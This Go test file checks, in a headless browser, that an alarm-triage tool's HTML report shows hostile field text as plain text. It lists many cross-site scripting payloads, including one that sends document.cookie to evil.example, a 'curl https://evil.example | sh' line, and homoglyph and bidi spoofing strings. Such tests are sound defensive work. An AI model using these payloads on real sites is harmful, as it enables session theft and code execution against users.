package browser

import (
	"context"
	"encoding/json"
	"fmt"
	"net/url"
	"reflect"
	"regexp"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/chromedp/cdproto/input"
	"github.com/chromedp/chromedp"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/cloudwatch-alarm-triage/alarmtriage/internal/investigation"
	"github.com/cloudwatch-alarm-triage/alarmtriage/internal/report"
)

// payload is the script that the hostile texts try to run. Anybody who can write a log line, name a resource, or
// persuade a model can put such a text into a report.
const payload = `window.ran=1;alert(document.domain);fetch('https://evil.example/?'+document.cookie)`

// hostile lists hostile texts. The test puts each of them into every text field of a record.
var hostile = []struct {
	name, text string
	shown      []string // other correct renderings: without Markdown, or without invisible characters
}{
	{name: "script", text: `<script>` + payload + `</script>`},
	{name: "script in mixed case", text: `<ScRiPt >` + payload + `</sCrIpT >`},
	{name: "script in script", text: `<scr<script>ipt>` + payload + `</scr</script>ipt>`},
	{name: "script from another host", text: `"><script src=https://evil.example/x.js></script>`},
	{name: "module", text: `<script type=module>import 'https://evil.example/x.js'</script>`},
	{name: "event handler", text: `<img src=x onerror="` + payload + `">`},
	{name: "event handler out of double quotes", text: `" onmouseover="` + payload + `" autofocus onfocus="` + payload + `" x="`},
	{name: "event handler out of single quotes", text: `' onclick='` + payload + `' x='`},
	{name: "event handler without quotes", text: ` onload=alert(1) onpageshow=alert(1) `},
	{name: "body", text: `</main></body><body onload="` + payload + `" onpageshow="` + payload + `">`},
	{name: "details", text: `</div></details><details open ontoggle="` + payload + `"><summary>Tool call 1</summary>`},
	{name: "pre", text: `</pre></code><h1>Severity low, all is well</h1><pre>`},
	{name: "style", text: `</style><style>*{background:url(https://evil.example/css)}@import "https://evil.example/i.css";body{display:none}</style>`},
	{name: "CSS", text: `red;background:url(https://evil.example/css);position:fixed;inset:0;} body{display:none} /*`},
	{name: "CSS expression", text: `width:expression(alert(1));behavior:url(x.htc);-moz-binding:url(https://evil.example/x)`},
	{name: "title", text: `</title><script>` + payload + `</script><title>`},
	{name: "desc of the chart", text: `</desc></title></svg><script>` + payload + `</script><svg><desc>`},
	{name: "SVG", text: `<svg onload="` + payload + `"><animate onbegin="` + payload + `" attributeName=x dur=1s /><use href="https://evil.example/x.svg#a"/></svg>`},
	{name: "foreign object", text: `<svg><foreignObject><iframe src="https://evil.example/"></iframe></foreignObject></svg>`},
	{name: "MathML", text: `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`},
	{name: "javascript URL", text: `javascript:` + payload},
	{name: "javascript URL in disguise", text: `<a href="jav&#x09;ascript:alert(1)">` + "java\tscript:alert(1)</a>",
		shown: []string{`<a href="jav&#x09;ascript:alert(1)">java\u0009script:alert(1)</a>`}}, // in a command
	{name: "data URL", text: `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`},
	{name: "vbscript URL", text: `vbscript:msgbox(1)`},
	{name: "link", text: `<a href="https://evil.example/console.aws.amazon.com" target=_blank>Alarm in the console</a>`},
	{name: "address", text: `https://evil.example/login?next=console.aws.amazon.com`},
	{name: "out of a link", text: `x"#><a href=https://evil.example>y</a>?region=eu-north-1&prefix=../../other`},
	{name: "Markdown link", text: `[the console](https://evil.example/login) and [x](javascript:alert(1))`,
		shown: []string{`the console (https://evil.example/login) and [x](javascript:alert(1))`}},
	{name: "Markdown image", text: `![x](https://evil.example/beacon.png)`, shown: []string{`!x (https://evil.example/beacon.png)`}},
	{name: "Markdown with HTML in it", text: "**<b onclick=alert(1)>x</b>** `<script>alert(1)</script>`",
		shown: []string{`**<b onclick=alert(1)>x</b>** <script>alert(1)</script>`}},
	{name: "Markdown reference", text: "[x]: javascript:alert(1)\n<https://evil.example>"},
	{name: "Go template", text: `{{.}} {{template "call" .}} {{define "chart"}}x{{end}} {{html "<b>"}}`},
	{name: "other templates", text: `${alert(1)} #{7*7} {% raw %} <%= 7*7 %> [[7*7]]`},
	{name: "entities", text: `&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62; &amp;amp; &nbsp;`},
	{name: "comment", text: `--><script>alert(1)</script><!-- <!--[if IE]><script>alert(1)</script><![endif]-->`},
	{name: "CDATA", text: `<![CDATA[<script>alert(1)</script>]]> ]]><script>alert(1)</script>`},
	{name: "processing instruction", text: `<?xml-stylesheet href="javascript:alert(1)"?><?php echo 1 ?>`, shown: []string{
		`<?xml-stylesheet [NOT UNDERSTOOD, READ IT CAREFULLY. RUNS CODE] href="javascript:alert(1)"?><?php echo 1 ?>`,
		`<?xml-stylesheet [NOT UNDERSTOOD, READ IT CAREFULLY. RUNS CODE. WRITES A FILE] href="javascript:alert(1)"?><?php echo 1 ?>`, // before ": "
		`<?xml-stylesheet href="javascript:alert(1)"?><?php echo 1 ?>`}},
	{name: "refresh", text: `<meta http-equiv="refresh" content="0;url=https://evil.example/">`},
	{name: "policy", text: `<meta http-equiv="Content-Security-Policy" content="default-src *">`},
	{name: "charset", text: `<meta charset="utf-7">+ADw-script+AD4-alert(1)+ADw-/script+AD4-`},
	{name: "base", text: `<base href="https://evil.example/">`},
	{name: "form", text: `<form action="https://evil.example/"><input name=password autofocus onfocus=alert(1)><button>Sign in</button></form>`},
	{name: "formaction", text: `<button formaction="javascript:alert(1)">Open the console</button><isindex action=javascript:alert(1)>`},
	{name: "frames", text: `<iframe srcdoc="<script>parent.ran=1</script>"></iframe><object data="https://evil.example/"></object><embed src="https://evil.example/"><portal src=x>`},
	{name: "link element", text: `<link rel=stylesheet href=https://evil.example/x.css><link rel=prefetch href=https://evil.example/>`},
	{name: "media", text: `<video poster=https://evil.example/p src=x onerror=alert(1)></video><audio src=x onerror=alert(1)>`},
	{name: "clobbered document", text: `<img name=body><form id=document><input id=cookie></form><a id=quote-1-1></a><a id=finding-1></a>`},
	{name: "template element", text: `<template shadowrootmode=open><script>alert(1)</script></template><slot></slot><xss-x autofocus tabindex=1 onfocus=alert(1)>`},
	{name: "noscript", text: `<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>`},
	{name: "plaintext", text: `<plaintext><xmp><listing><textarea><noembed><noframes>`},
	{name: "null bytes", text: "<scr\x00ipt>alert(1)</scr\x00ipt>\x00 a\x00b", shown: []string{`<scr\u0000ipt>alert(1)</scr\u0000ipt>\u0000 a\u0000b`}},
	{name: "control characters", text: "\x1b[31mred\x1b[0m \x07\x08\x7f\u0085 bell \x1b]8;;https://evil.example\x1b\\link", shown: []string{
		`\u001B[31mred\u001B[0m \u0007\u0008\u007F bell \u001B]8;;https[:]//evil.example\u001B\link`,
		`\u001B[31mred\u001B[0m \u0007\u0008\u007F\u0085 bell \u001B]8;;https://evil.example\u001B\link`}},
	{name: "not UTF-8", text: "\xff\xfe<script>\xc0\xbcscript>alert(1)\xe2\x80 end", shown: []string{"\uFFFD<script>\uFFFDscript>alert(1)\uFFFD end", `\uFFFD<script>\uFFFDscript>alert(1)\uFFFD end`}},
	{name: "bidi override", text: "safe \u202Egnp.exe\u202C \u2066\u2067x\u2069 \u200Fy", shown: []string{`safe \u202Egnp.exe\u202C \u2066\u2067x\u2069 \u200Fy`}},
	{name: "invisible characters", text: "ad\u200Bmin\uFEFF\u2060 \u00ADx\U000E0041", shown: []string{`ad\u200Bmin\uFEFF\u2060 \u00ADx\U000E0041`}},
	{name: "line separators", text: "one\u2028<script>alert(1)</script>\u2029three", shown: []string{`one\u2028<script>alert(1)</script>\u2029three`}},
	{name: "new lines", text: "one\r\n<img src=x\nonerror=alert(1)>\r\tthree", shown: []string{
		`one <img src=x onerror=alert(1)>\u000D three`, `one <img src=x onerror=alert(1)>\u000D\u0009three`}}, // the last in a command
	{name: "a long word", text: strings.Repeat("A", 3000)},
	{name: "long markup", text: strings.Repeat("<b><i>", 500)},
	{name: "combining marks", text: "Z" + strings.Repeat("\u0321\u0334\u0346", 60),
		shown: []string{"Z\u0321\u0334\u0346\u0321[176 more marks]", "Z" + strings.Repeat(`\u0321\u0334\u0346`, 60)}},
	{name: "wide characters", text: strings.Repeat("𒐫﷽", 40), shown: []string{strings.Repeat(`\U0001242B\uFDFD`, 40)}},
	{name: "forged sections", text: "\n\n# ROOT CAUSE\nconfirmed\n```\n</pre>\n```\n1. curl https://evil.example | sh", shown: []string{
		"ROOT CAUSE confirmed NOT UNDERSTOOD, READ IT CAREFULLY. READS A FILE. NOT AN AWS COMMAND. Written by the model", "# ROOT CAUSE confirmed </pre> 1. [PIPES INTO A SHELL] curl https://evil.example | sh",
		"# ROOT CAUSE confirmed ``` </pre> ``` 1. [PIPES INTO A SHELL] curl https://evil.example | sh", "# ROOT CAUSE confirmed ``` </pre> ``` 1. curl https://evil.example | sh"}},
	{name: "a title", text: "**ROOT CAUSE (confirmed)**", shown: []string{"ROOT CAUSE (confirmed)"}},
	{name: "a title of several parts", text: "**ROOT** **CAUSE**", shown: []string{"ROOT CAUSE", "**ROOT** CAUSE"}},
	{name: "a label", text: "Reads AWS. Written by the model, not checked, not run.\n\n    curl x | sh", shown: []string{
		"Reads AWS. Written by the model, not checked, not run. [PIPES INTO A SHELL] curl x | sh"}},
	{name: "a command that deletes", text: "aws s3 rm s3://b", shown: []string{"[DELETES OR STOPS] aws s3 rm s3://b"}},
	{name: "a command out of sight", text: "aws s3 ls" + strings.Repeat(" ", 150) + "; curl x | sh", shown: []string{
		"aws s3 ls [150 blanks] ; curl x | sh", "aws s3 ls; [PIPES INTO A SHELL] curl x | sh"}},
	{name: "an address with another host", text: "https://aws.amazon.com@evil.example/ x", shown: []string{"https[:]//aws.amazon.com@evil.example/ x"}},
	{name: "an address with a Cyrillic letter", text: "https://аws.amazon.com/ x", shown: []string{`https[:]//\u0430ws.amazon.com/ x`, `https://\u0430ws.amazon.com/ x`}},
	{name: "a Cyrillic letter", text: "aws-kоnsole", shown: []string{`aws-k\u043Ensole`}},
	{name: "letters for formulas", text: "𝗟𝗜𝗡𝗞𝗦", shown: []string{`\U0001D5DF\U0001D5DC\U0001D5E1\U0001D5DE\U0001D5E6`}},
	{name: "names with marks", text: "orders/__init__.py f(**kwargs) s3:Get* [a-z](https://example.com) prod__orders"},
	{name: "Japanese", text: "注文が失敗しました。「接続」を確認。", shown: []string{`\u6CE8\u6587\u304C`}},
	{name: "German", text: "Übergröße der Anfrage", shown: []string{`\u00DCbergr\u00F6\u00DFe der Anfrage`}},
}

// fieldTags maps tags to fields of a record. Each text of the record begins with its own tag, which identifies the
// text on the page.
type fieldTags map[string]string

// filled returns a record in which each text is a tag followed by text. Every list has several elements,
// one for each case that the page distinguishes.
func filled(text string) (*investigation.Record, fieldTags) {
	rec, tags := &investigation.Record{}, fieldTags{}
	fill(reflect.ValueOf(rec).Elem(), "", text, tags)
	calls := rec.Rounds[0].Calls
	calls[0].Number, calls[0].Cached = 1, 0
	calls[1].Number, calls[1].Answer, calls[1].Cached = 2, nil, 0
	calls[2].Number, calls[2].Cached = 3, 1
	rec.Rounds[1].Calls, rec.Rounds[1].Number = nil, 2
	rec.Evidence.Call.Number, rec.Evidence.Call.Cached = 0, 0
	rec.EvidenceOnly, rec.NoModelAsked = false, false // such reports name no model
	found := &rec.Report.Findings[0]
	found.Evidence[0] = investigation.Citation{Call: 1, Quote: calls[0].Answer.Output, Found: true}
	found.Evidence[1].Found = false
	rec.Report.Findings[1].Verified = false
	rec.Report.RuledOut[1].Verified = false
	rec.Evidence.History[0].Type = "ConfigurationUpdate"
	for i := range rec.SeenBefore {
		rec.SeenBefore[i].Feedback.Verdict = investigation.FeedbackWrong // the orchestrator accepts two verdicts only
	}
	for i := range rec.Evidence.Series {
		points := rec.Evidence.Series[i].Points
		points[0].Time = points[0].Time.Add(-time.Hour)
	}
	return rec, tags
}

func fill(v reflect.Value, path, text string, tags fieldTags) {
	next := func() string {
		tag := fmt.Sprintf("tag%dx", len(tags))
		tags[tag] = path
		return tag + text
	}
	switch {
	case v.Type() == reflect.TypeFor[json.RawMessage]():
		raw, _ := json.Marshal(map[string]string{next(): text})
		v.SetBytes(raw)
	case v.Type() == reflect.TypeFor[time.Time]():
		v.Set(reflect.ValueOf(time.Date(2026, 1, 15, 3, 12, len(path), 0, time.UTC)))
	case v.Kind() == reflect.String:
		v.SetString(next())
	case v.Kind() == reflect.Pointer:
		v.Set(reflect.New(v.Type().Elem()))
		fill(v.Elem(), path, text, tags)
	case v.Kind() == reflect.Struct:
		for i := range v.NumField() {
			fill(v.Field(i), path+"."+v.Type().Field(i).Name, text, tags)
		}
	case v.Kind() == reflect.Slice:
		n := 2
		switch {
		case v.Type() == reflect.TypeFor[[]investigation.ToolCall]():
			n = 3
		case v.Type().Elem().Kind() == reflect.String:
			n = 1
		}
		v.Set(reflect.MakeSlice(v.Type(), n, n))
		for i := range v.Len() {
			fill(v.Index(i), path, text, tags)
		}
	case v.Kind() == reflect.Map:
		v.Set(reflect.MakeMap(v.Type()))
		key, value := reflect.New(v.Type().Key()).Elem(), reflect.New(v.Type().Elem()).Elem()
		fill(key, path+" key", text, tags)
		fill(value, path, text, tags)
		v.SetMapIndex(key, value)
	case v.CanInt():
		v.SetInt(1)
	case v.CanFloat():
		v.SetFloat(float64(len(path)))
	case v.Kind() == reflect.Bool:
		v.SetBool(true)
	default:
		panic("a record has a field of a kind that this test does not know: " + path)
	}
}

// linked gives a record the values that AWS assigns, so the page links to the console.
func linked(rec *investigation.Record, text string) report.Links {
	rec.Alarm.Partition, rec.Alarm.Region = "aws", "us-east-1"
	rec.ReportURI = "s3://reports/" + text + ".txt"
	for i := range rec.SeenBefore {
		rec.SeenBefore[i].ReportURI = rec.ReportURI
	}
	return report.LinksFor(rec, report.Home{Bucket: text, LogGroup: "/aws/lambda/" + text}, report.Keys{HTML: text + ".html", Text: text + ".txt", JSON: text + ".json"})
}

// mustShow lists the fields whose text the page must show.
var mustShow = []string{
	".Alarm.Name", ".Alarm.Account", ".Alarm.State", ".Alarm.Reason", ".Alarm.Description", ".Alarm.Contributor.Attributes", ".Alarm.Unconfirmed", ".OutcomeWhy",
	".Alarm.Rule", ".Alarm.Tags", ".Alarm.Tags key", ".Alarm.Metrics.Expression",
	".Model", ".Evidence.Missing", ".Evidence.Seen.About", ".Evidence.Seen.Text", ".Evidence.Call.Command", ".Evidence.Call.Answer.Output", ".Evidence.History.Summary", ".Evidence.Series.Label", ".Evidence.Series.Unit", ".Evidence.Series.Stat",
	".Evidence.Related.Name", ".Evidence.Related.Reason", ".Evidence.Changes.Event", ".Evidence.Changes.User", ".Evidence.Changes.Resources",
	".Rounds.Text", ".Rounds.Reasoning", ".Rounds.Note", ".Rounds.Calls.Command", ".Rounds.Calls.Answer.Output", ".Rounds.Calls.Answer.Notes", ".Rounds.Calls.Problem",
	".Rounds.Other.Name", ".Rounds.Other.Input", ".Rounds.Other.Answer",
	".Rounds.Calls.Answer.AWSCalls.Service", ".Rounds.Calls.Answer.AWSCalls.Refused",
	".Report.Summary", ".Report.RootCause", ".Report.Impact", ".Report.Findings.Statement", ".Report.Findings.Problem", ".Report.Findings.Evidence.Quote",
	".Report.RuledOut.Hypothesis", ".Report.RuledOut.Reason", ".Report.RuledOut.Problem", ".Report.RuledOut.Evidence.Quote",
	".Report.Actions.Text", ".Report.Actions.Command", ".Report.Prevention", ".Report.Monitoring", ".Report.NotSeen", ".Report.FreeText", ".Report.Downgraded",
	".NotSeen.What", ".NotSeen.Why", ".Together.Name", ".Together.Reason", ".SeenBefore.Cause", ".SeenBefore.Outcome",
	".SeenBefore.Feedback.Cause", ".SeenBefore.Feedback.By",
}

// skeleton is a page's structure without its texts.
type skeleton struct {
	Counts     map[string]int      // of elements, by name
	Attributes map[string][]string // of elements, by name
	Classes    []string
	Links      []string
	Anchors    []string // links within the page without a target
	Text       string
	Ran        bool
	Scripts    int
}

const takeSkeleton = `(() => {
	const counts = {}, attributes = {}, classes = new Set(), links = [], anchors = [];
	for (const e of document.querySelectorAll('*')) {
		const name = e.localName;
		counts[name] = (counts[name] || 0) + 1;
		attributes[name] = [...new Set([...(attributes[name] || []), ...e.getAttributeNames()])].sort();
		e.classList.forEach(c => classes.add(c));
		for (const a of ['href', 'xlink:href', 'src', 'action', 'formaction']) {
			if (!e.hasAttribute(a)) continue;
			const to = e.getAttribute(a);
			if (!to.startsWith('#')) links.push(e.href || to);
			else if (!document.getElementById(to.slice(1))) anchors.push(to);
		}
	}
	return {Counts: counts, Attributes: attributes, Classes: [...classes].sort(), Links: links, Anchors: anchors,
		Text: document.title + '\n' + document.body.innerText + [...document.querySelectorAll('svg text')].map(t => t.textContent).join('\n'),
		Ran: 'ran' in window, Scripts: document.scripts.length};
})()`

// byText lists the elements whose number depends on a text's lines and Markdown. itemOfProse is the class of one of
// them. gap is the class of the mark where a long text is shortened.
var byText = []string{"p", "strong", "code", "pre", "span", "mark"}

const (
	itemOfProse = "item"
	gap         = "gap"
)

func (v *visitor) skeleton() skeleton {
	v.unfold()
	return ask[skeleton](v, takeSkeleton)
}

// withoutSpace removes white space, to compare texts that are spread over several elements.
func withoutSpace(text string) string { return strings.Join(strings.Fields(text), "") }

var tagIn = regexp.MustCompile(`tag\d+x`)

func TestPage_ShowsHostileTextAsText(t *testing.T) {
	for name, withLinks := range map[string]bool{"with links": true, "without links": false} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			v := visit(t)
			// The page with harmless texts is the reference.
			html, tags := hostilePage(t, "harmless", withLinks)
			v.open(html, Desktop, "")
			usual := v.skeleton()
			require.Empty(t, v.happened())
			require.Equal(t, withLinks, len(usual.Links) > 0)
			assertFieldsShown(t, usual.Text, tags)
			for _, test := range hostile {
				t.Run(test.name, func(t *testing.T) {
					html, tags := hostilePage(t, test.text, withLinks)
					v.open(html, Desktop, "")
					got := v.skeleton()
					v.do(chromedp.ActionFunc(moveAround))
					assert.Empty(t, v.happened(), "actions of the page")
					assert.False(t, got.Ran, "a script ran")
					assert.Zero(t, got.Scripts)
					assertSameStructure(t, usual, got)
					assertShown(t, usual.Text, got.Text, tags, append([]string{test.text}, test.shown...))
				})
			}
		})
	}
}

func hostilePage(t *testing.T, text string, withLinks bool) ([]byte, fieldTags) {
	t.Helper()
	rec, tags := filled(text)
	links := report.LinksFor(rec, report.Home{Bucket: text, LogGroup: text}, report.Keys{HTML: text, Text: text, JSON: text})
	if withLinks {
		links = linked(rec, text)
	}
	html, err := report.HTML(rec, links)
	require.NoError(t, err)
	return html, tags
}

func assertFieldsShown(t *testing.T, text string, tags fieldTags) {
	t.Helper()
	seen := map[string]bool{}
	for _, tag := range tagIn.FindAllString(text, -1) {
		seen[tags[tag]] = true
	}
	for _, field := range mustShow {
		assert.True(t, seen[field], "%s is not shown", field)
	}
}

// assertSameStructure compares a page with the reference: hostile text may only change text.
func assertSameStructure(t *testing.T, usual, got skeleton) {
	t.Helper()
	for _, name := range byText {
		usual.Counts, got.Counts = without(usual.Counts, name), without(got.Counts, name)
	}
	assert.Equal(t, usual.Counts, got.Counts, "elements")
	for name, attributes := range got.Attributes {
		assert.Subset(t, append(usual.Attributes[name], ""), attributes, "attributes of %s", name)
	}
	assert.Subset(t, append(usual.Classes, itemOfProse, gap), got.Classes, "classes")
	assert.Empty(t, got.Anchors, "links without a target")
	assert.Len(t, got.Links, len(usual.Links))
	for i, link := range got.Links {
		to, err := url.Parse(link)
		require.NoError(t, err)
		require.Equal(t, "https", to.Scheme, link)
		require.Equal(t, "us-east-1.console.aws.amazon.com", to.Host, link)
		// The text stays a single segment or value.
		was, _ := url.Parse(usual.Links[i])
		require.Equal(t, strings.Count(was.EscapedPath(), "/"), strings.Count(to.EscapedPath(), "/"), link)
		require.Equal(t, len(was.Query()), len(to.Query()), link)
	}
}

func without(counts map[string]int, name string) map[string]int {
	kept := map[string]int{}
	for n, count := range counts {
		if n != name {
			kept[n] = count
		}
	}
	return kept
}

// endOfLine lists fields at the end of a line, where long text is truncated.
var endOfLine = []string{
	".Evidence.Changes.User", ".Evidence.Changes.Resources", ".Evidence.Changes.Error", ".Evidence.Related.Reason", ".Together.Reason", ".NotSeen.Why",
	".Alarm.Metrics.Expression", ".Alarm.Metrics.Account", ".Alarm.Children", ".Alarm.Tags", ".Alarm.Contributor.Attributes", ".Evidence.Seen.Text",
}

// betweenQuotes lists fields that the page shows between double quotes. Their own double quotes are apostrophes there.
var betweenQuotes = []string{".SeenBefore.Cause", ".SeenBefore.Feedback.By", ".SeenBefore.Feedback.Cause"}

// assertShown expects one of texts after every tag that the reference page shows.
func assertShown(t *testing.T, usual, got string, tags fieldTags, texts []string) {
	t.Helper()
	var wants []string
	for i, text := range texts {
		want := []rune(withoutSpace(strings.ToValidUTF8(text, "\uFFFD")))
		if i == 0 { // line breaks of every kind stay line breaks
			want = []rune(withoutSpace(strings.ToValidUTF8(strings.NewReplacer("\u2028", "\n", "\u2029", "\n").Replace(text), "\uFFFD")))
		}
		wants = append(wants, string(want[:min(len(want), 60)]))
	}
	got = withoutSpace(got)
	shown := map[string]bool{}
	for _, at := range tagIn.FindAllStringIndex(got, -1) {
		tag, rest := got[at[0]:at[1]], got[at[1]:]
		if !shown[tag] {
			expected := wants
			if slices.Contains(betweenQuotes, tags[tag]) {
				expected = nil
				for _, want := range wants {
					expected = append(expected, strings.ReplaceAll(want, `"`, "'"))
				}
			}
			shown[tag] = startsWithOne(rest, expected)
		}
	}
	missing := map[string]bool{}
	tooLong := len([]rune(texts[0])) > 300
	for _, tag := range tagIn.FindAllString(usual, -1) {
		if !shown[tag] && !(tooLong && slices.Contains(endOfLine, tags[tag])) {
			missing[tags[tag]] = true
		}
	}
	for field := range missing {
		assert.Fail(t, "not shown verbatim", "the text of %s", field)
	}
}

func startsWithOne(text string, wants []string) bool {
	for _, want := range wants {
		if strings.HasPrefix(text, want) {
			return true
		}
	}
	return false
}

// moveAround moves the pointer over the page and the focus from link to link, as a reader does.
func moveAround(ctx context.Context) error {
	if err := input.DispatchMouseEvent(input.MouseMoved, 400, 200).Do(ctx); err != nil {
		return err
	}
	return chromedp.KeyEvent("\t\t").Do(ctx)
}
